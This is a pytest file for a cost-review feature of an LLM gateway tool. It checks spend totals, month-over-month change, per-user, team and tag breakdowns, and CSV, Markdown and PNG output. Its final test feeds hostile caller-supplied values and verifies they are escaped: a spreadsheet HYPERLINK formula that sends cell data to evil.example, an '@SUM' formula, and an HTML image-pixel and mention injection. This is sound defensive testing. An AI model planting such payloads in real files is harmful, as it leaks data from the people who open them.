"""The monthly cost review: spend by system, model and user against the month before,
top spenders and cost per successful task, as Markdown, CSV and a PNG chart."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from decimal import Decimal

import httpx
import pytest

import trimtab
from tests.helpers.gateway_server import running_gateway
from trimtab.observe import cost_report

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


@pytest.fixture
def spend(ws):
    """September: $0.50. October: $1.18 over 13 calls, one failed, one unpriced."""
    def rec(system, model, user, micro, when, status="ok"):
        ws.record(system, {"q": "x"}, "ok", latency_ms=100, model=model, user=user,
                  cost_micro_usd=micro, status=status, time=at(when),
                  error="timeout" if status == "error" else None)

    rec("complaint-router", "sim-a", "alice", 9_000_000, "2026-08-31T23:59:59")  # August
    for day in range(1, 5):
        rec("complaint-router", "sim-a", "alice", 100_000, f"2026-09-{day:02d}T10:00:00")
    for day in (5, 6):
        rec("ticket-tagger", "sim-b", "bob", 50_000, f"2026-09-{day:02d}T10:00:00")
    rec("complaint-router", "sim-a", "alice", 100_000, "2026-10-01T00:00:00")  # first instant
    for day in range(2, 6):
        rec("complaint-router", "sim-a", "alice", 100_000, f"2026-10-{day:02d}T12:30:00")
    rec("complaint-router", "sim-a", "alice", 100_000, "2026-10-31T23:59:59")  # last second
    rec("complaint-router", "sim-a", "alice", None, "2026-10-12T08:00:00")  # no price
    for day in (7, 8):
        rec("complaint-router", "sim-b", "bob", 250_000, f"2026-10-{day:02d}T09:00:00")
    rec("complaint-router", "sim-b", "bob", 50_000, "2026-10-09T09:00:00", status="error")
    for day in (10, 11, 12):
        rec("ticket-tagger", "sim-b", None, 10_000, f"2026-10-{day:02d}T15:00:00")
    rec("complaint-router", "sim-a", "alice", 9_000_000, "2026-11-01T00:00:00")  # November
    assert ws.flush()
    return ws


def rows_of(path):
    with path.open(newline="") as handle:
        return {(r["section"], r["name"]): r for r in csv.DictReader(handle)}


def test_the_csv_holds_spend_change_and_cost_per_successful_task(spend, tmp_path):
    report = spend.cost_report("2026-10")
    paths, notes = cost_report.write(report, tmp_path)
    assert notes == [] and paths["csv"].name == "cost-2026-10.csv"
    rows = rows_of(paths["csv"])

    total = rows[("total", "total")]
    assert Decimal(total["cost_usd"]) == Decimal("1.18")
    assert Decimal(total["previous_cost_usd"]) == Decimal("0.5")
    assert Decimal(total["change_usd"]) == Decimal("0.68") and total["change_pct"] == "136.0"
    assert (total["calls"], total["successful_calls"], total["cost_unknown_calls"]) == \
        ("13", "12", "1")
    assert total["cost_per_successful_call_usd"] == "0.098333"  # 1.18 / 12

    router = rows[("system", "complaint-router")]
    assert Decimal(router["cost_usd"]) == Decimal("1.15") and router["change_pct"] == "187.5"
    assert (router["calls"], router["successful_calls"]) == ("10", "9")
    assert router["cost_per_successful_call_usd"] == "0.127778"
    tagger = rows[("system", "ticket-tagger")]
    assert Decimal(tagger["cost_usd"]) == Decimal("0.03") and tagger["change_pct"] == "-70.0"

    assert Decimal(rows[("model", "sim-a")]["cost_usd"]) == Decimal("0.6")
    assert Decimal(rows[("model", "sim-b")]["cost_usd"]) == Decimal("0.58")
    assert rows[("model", "sim-b")]["change_pct"] == "480.0"
    assert Decimal(rows[("user", "alice")]["cost_usd"]) == Decimal("0.6")
    assert Decimal(rows[("user", "bob")]["cost_usd"]) == Decimal("0.55")
    no_user = rows[("user", "(no user)")]
    assert Decimal(no_user["cost_usd"]) == Decimal("0.03") and no_user["change_pct"] == ""
    assert [u.name for u in report.top_spenders] == ["alice", "bob"]


def test_the_markdown_reads_as_a_review_and_the_chart_is_a_png(spend, tmp_path):
    paths, _ = cost_report.write(spend.cost_report("2026-10"), tmp_path)
    text = paths["markdown"].read_text()
    assert text.startswith("# Cost review: October 2026")
    assert "Total spend **$1.18** over 13 calls (12 successful)" in text
    assert "previous month (September 2026) $0.50, change +$0.68 (+136.0%)" in text
    assert "Cost per successful task: **$0.098**" in text
    assert "Calls without a price (unknown model or no token counts): 1" in text
    assert "1. alice: $0.60 (50.8% of spend, 7 calls)" in text
    assert "2. bob: $0.55 (46.6% of spend, 3 calls)" in text
    assert ("| complaint-router | $1.15 (+1 unpriced) | $0.40 | +$0.75 (+187.5%) | 10 | 9 "
            "| $0.13 |") in text
    assert "| ticket-tagger | $0.03 | $0.10 | -$0.07 (-70.0%) | 3 | 3 | $0.01 |" in text
    assert "| (no user) | $0.03 | $0 | +$0.03 (new) | 3 | 3 | $0.01 |" in text
    assert "| sim-a | $0.60 (+1 unpriced) |" in text
    assert "![Spend by system, this month and the previous one](cost-2026-10.png)" in text
    assert paths["chart"].read_bytes()[:8] == PNG_MAGIC
    assert paths["chart"].stat().st_size > 10_000


def test_report_cost_cli_writes_three_files(spend, cli, tmp_path):
    out = tmp_path / "reports"
    printed = cli("report", "cost", "--month", "2026-10", "--out", str(out)).stdout
    assert ("cost review 2026-10: $1.18 over 13 calls (previous month $0.50); cost per "
            "successful task $0.098") in printed
    assert sorted(p.name for p in out.iterdir()) == \
        ["cost-2026-10.csv", "cost-2026-10.md", "cost-2026-10.png"]
    assert (out / "cost-2026-10.png").read_bytes()[:8] == PNG_MAGIC
    september = json.loads(cli("report", "cost", "--month", "2026-09", "--out", str(out),
                               "--json").stdout)
    total = september["lines"][0]
    assert september["previous_month"] == "2026-08" and total["section"] == "total"
    assert (total["cost_usd"], total["previous_cost_usd"], total["change_pct"]) == \
        ("0.5", "9", -94.4)
    assert september["files"]["csv"].endswith("cost-2026-09.csv")


def test_bad_months_are_clear(spend, cli, tmp_path):
    assert "not a month. Fix: use YYYY-MM" in cli("report", "cost", "--month", "2026-13",
                                                  expect=2).output
    assert "not a month" in cli("report", "cost", "--month", "October", expect=2).output
    empty = tmp_path / "empty"
    out = cli("report", "cost", "--month", "2025-01", "--out", str(empty), expect=2).output
    assert "no calls recorded in 2025-01 (2025-01-01 to 2025-02-01 UTC)" in out
    assert not empty.exists()  # nothing half-written


def test_month_arithmetic_crosses_years():
    assert cost_report.previous("2026-01") == "2025-12"
    assert cost_report.month_bounds("2026-12") == (at("2026-12-01T00:00:00"),
                                                   at("2027-01-01T00:00:00"))
    assert cost_report.last_full_month(at("2026-03-15T12:00:00")) == "2026-02"
    with pytest.raises(trimtab.TrimtabError, match="not a month"):
        cost_report.month_bounds("2026-00")


def test_the_default_month_is_the_last_full_one_or_the_latest_with_calls(spend, cli, tmp_path):
    store = spend.store
    assert cost_report.months_with_calls(store) == ["2026-08", "2026-09", "2026-10", "2026-11"]
    assert cost_report.default_month(store, now=at("2026-11-15T00:00:00")) == "2026-10"
    # A trial that began this month: last month has no calls, so this month it is.
    assert cost_report.default_month(store, now=at("2027-03-02T00:00:00")) == "2026-11"
    out = cli("report", "cost", "--month", "2025-01", "--out", str(tmp_path), expect=2).output
    assert "pick a month with calls: 2026-08, 2026-09, 2026-10, 2026-11" in out


def test_with_only_this_months_calls_the_report_is_of_this_month(ws, cli, tmp_path):
    now = datetime.now(UTC)
    ws.record("complaint-router", {"q": "x"}, "ok", latency_ms=5, cost_micro_usd=42, time=now)
    assert ws.flush()
    printed = cli("report", "cost", "--out", str(tmp_path)).stdout
    assert f"cost review {now:%Y-%m}:" in printed


def test_an_empty_store_says_so(ws, cli, tmp_path):
    assert "no calls recorded yet" in cli("report", "cost", "--out", str(tmp_path),
                                          expect=2).output


@pytest.fixture
def crowd(ws):
    """October 2026 through the gateway's path: 23 users, keys tagged with a team (and a
    channel), tiny per-call costs; September holds one user who has since gone quiet."""
    def rec(user, micro, when, tags=None, status="ok"):
        ws.record("complaint-router", {"q": "x"}, "ok", latency_ms=10, model="sim-a",
                  user=user, tags=tags, cost_micro_usd=micro, status=status, time=at(when),
                  error="timeout" if status == "error" else None)

    for n in range(23):  # user-00 spends most (23 micro-dollars), user-22 least (1)
        tags = {"team": "support" if n % 2 else "sales", "channel": "email"}
        rec(f"user-{n:02d}", 23 - n, f"2026-10-{n + 1:02d}T10:00:00", tags)
    rec("user-00", 5, "2026-10-29T10:00:00", {"team": "sales"}, status="error")
    rec(None, 7, "2026-10-30T10:00:00")  # no user, no team
    rec("gone", 40, "2026-09-15T10:00:00", {"team": "support"})
    assert ws.flush()
    return ws


def test_top_20_users_then_all_others_teams_and_tags(crowd, tmp_path):
    report = crowd.cost_report("2026-10")
    users = report.section("user")
    assert [u.name for u in users[:3]] == ["user-00", "user-01", "user-02"]
    assert len(users) == 22 and users[19].name == "user-19"
    others, nobody = users[20], users[21]
    # user-20..22 this month (3+2+1 micro) and "gone" (40 micro last month)
    assert others.name == "(all others: 4 users)"
    assert (others.cost_usd, others.previous_cost_usd, others.calls) == \
        (Decimal("0.000006"), Decimal("0.00004"), 3)
    assert (nobody.name, nobody.cost_usd) == ("(no user)", Decimal("0.000007"))
    assert report.sections == ["system", "model", "user", "team", "tag:channel"]
    teams = {t.name: t for t in report.section("team")}
    assert set(teams) == {"sales", "support", "(no team)"}
    # sales: even users 0..22 -> 23+21+...+1 = 144, plus the failed call's 5
    assert teams["sales"].cost_usd == Decimal("0.000149")
    assert (teams["sales"].calls, teams["sales"].successful_calls) == (13, 12)
    assert teams["support"].cost_usd == Decimal("0.000132")
    assert teams["support"].previous_cost_usd == Decimal("0.00004")
    channel = {t.name: t.cost_usd for t in report.section("tag:channel")}
    assert channel == {"email": Decimal("0.000276"), "(no channel)": Decimal("0.000012")}

    text = cost_report.markdown(report, None)
    assert "## Spend by user (top 20 and all others)" in text
    assert "| (all others: 4 users) | $0.000006 | $0.00004 |" in text
    assert "## Spend by team" in text and "## Spend by tag `channel`" in text
    # 288 micro-dollars over 24 successful calls: significant digits, never $0.0000
    assert "Cost per successful task: **$0.000012**" in text
    assert "| sales | $0.00015 | $0 | +$0.00015 (new) | 13 | 12 | $0.000012 |" in text
    rows = rows_of(cost_report.write(report, tmp_path)[0]["csv"])
    assert rows[("team", "support")]["cost_usd"] == "0.000132"
    assert rows[("tag:channel", "email")]["calls"] == "23"


def test_a_keys_team_reaches_its_calls_and_the_report(live):
    """Through a real gateway on loopback, a key made with tags={"team": ...} tags
    every call it makes, and the report's team table shows that spend."""
    ws, _ = live
    _, secret = ws.create_key("support-bot", env="production", tags={"team": "support"})
    with running_gateway(ws) as base:
        for _ in range(2):
            answer = httpx.post(f"{base}/v1/chat/completions", json={
                "model": "trimtab/complaint-router",
                "messages": [{"role": "user", "content": "my parcel is late"}]},
                headers={"Authorization": f"Bearer {secret}"}, timeout=10)
            assert answer.status_code == 200, answer.text
    ws.flush()
    report = ws.cost_report(f"{datetime.now(UTC):%Y-%m}")
    [team] = report.section("team")
    assert (team.name, team.calls, team.cost_usd) == ("support", 2, report.total.cost_usd)


def test_a_tag_with_a_value_per_call_folds_into_all_others(ws):
    for n in range(25):
        ws.record("complaint-router", {"q": "x"}, "ok", latency_ms=10, model="sim-a",
                  tags={"request": f"r-{n:02d}"}, cost_micro_usd=100 + n,
                  time=at(f"2026-10-{n + 1:02d}T10:00:00"))
    ws.record("complaint-router", {"q": "x"}, "ok", latency_ms=10, model="sim-a",
              cost_micro_usd=1, time=at("2026-10-30T10:00:00"))
    assert ws.flush()
    lines = ws.cost_report("2026-10").section("tag:request")
    assert [line.name for line in lines[:2]] == ["r-24", "r-23"]
    assert len(lines) == 22 and lines[20].name == "(all others: 5 values)"
    assert lines[20].cost_usd == Decimal("0.00051")  # 100..104 micro-dollars
    assert (lines[21].name, lines[21].calls) == ("(no request)", 1)


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'


def test_names_from_callers_stay_text_in_the_csv_and_the_markdown(ws, tmp_path):
    """A user id, model or tag value comes from whoever calls the gateway: in the CSV
    it is no formula for a spreadsheet, in the Markdown no row, image or mention."""
    now = datetime.now(UTC)
    for user in (FORMULA, "| x | <img src=https://t.example/p.gif> @octocat", "-1.5"):
        ws.record("complaint-router", {"q": "x"}, "ok", latency_ms=5, cost_micro_usd=42,
                  time=now, user=user, model="@SUM(1+1)*cmd")
    assert ws.flush()
    paths, _ = cost_report.write(ws.cost_report(f"{now:%Y-%m}"), tmp_path)

    rows = rows_of(paths["csv"])
    assert ("user", "'" + FORMULA) in rows and ("model", "'@SUM(1+1)*cmd") in rows
    assert ("user", "-1.5") in rows  # a number, not a formula
    assert rows[("user", "'" + FORMULA)]["cost_usd"] == "0.000042"
    text = paths["markdown"].read_text()
    assert "| \\| x \\| &lt;img src=https://t.example/p.gif&gt; @&#8203;octocat |" in text
    assert "<img" not in text and "@octocat" not in text
